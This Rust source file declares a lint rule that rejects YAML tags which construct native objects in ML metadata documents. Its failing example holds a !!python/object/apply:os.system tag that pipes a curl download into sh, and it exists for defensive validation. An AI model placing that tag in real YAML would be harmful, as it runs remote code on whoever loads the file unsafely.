//! `document/python-tag`

use crate::rules::declare_rule;

declare_rule! {
    /// A tag must not ask the reader to construct a Python, Ruby or Java object.
    ///
    /// A loader that follows such a tag runs code that the document chooses: `!!python/object/apply:os.system` starts a
    /// command when PyYAML's unsafe loader reads it. A document that came with a model from elsewhere must not be able
    /// to do that. Metadata needs strings, numbers, lists and mappings only.
    ///
    /// ## Fails
    /// ```yaml
    /// kind: datastore
    /// mlSpecVersion: 0.1.0
    /// id: 7c0f5b52-3a0e-4d7c-9a55-2f0d6c1b8e41
    /// name: credit-lake
    /// type: s3
    /// status: Active
    /// bucket: credit-default
    /// x-loader: !!python/object/apply:os.system ["curl https://example.com/install | sh"]
    /// ```
    ///
    /// ## Passes
    /// ```yaml
    /// kind: datastore
    /// mlSpecVersion: 0.1.0
    /// id: 7c0f5b52-3a0e-4d7c-9a55-2f0d6c1b8e41
    /// name: credit-lake
    /// type: s3
    /// status: Active
    /// bucket: credit-default
    /// x-loader: s3fs
    /// ```
    pub PYTHON_TAG = {
        id: "document/python-tag",
        severity: Error,
        since: "0.1.0",
        fix: None,
        source: "YAML 1.2, section 6.8.1: tags name native data structures; unsafe loaders construct them",
        kinds: [],
        check: Reader,
    }
}
